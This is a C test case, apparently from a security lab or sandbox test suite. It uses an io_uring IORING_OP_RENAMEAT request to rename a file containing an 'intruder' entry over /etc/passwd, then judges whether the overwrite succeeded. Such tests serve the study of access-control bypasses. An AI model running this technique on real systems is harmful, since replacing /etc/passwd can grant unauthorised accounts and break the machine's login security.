// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Renames a file of its own over /etc/passwd by an io_uring request. Source: io_uring_enter(2),
 * IORING_OP_RENAMEAT. Control: /etc/passwd is the other file.
 */
#define _GNU_SOURCE
#include <fcntl.h>

#include "attack.h"
#include "files.h"
#include "ring.h"

void attack(void)
{
	const struct io_uring_sqe request = { .opcode = IORING_OP_RENAMEAT, .fd = AT_FDCWD,
		.addr = (uintptr_t)"/tmp/lab-uring", .len = (uint32_t)AT_FDCWD,
		.addr2 = (uintptr_t)PASSWD };
	const struct kept kept = keep(PASSWD);
	int result;

	drop_text(INTRUDER_ENTRY, "/tmp/lab-uring");
	result = ring_do(&request);
	judge_change(&kept, result < 0 ? -result : 0);
}
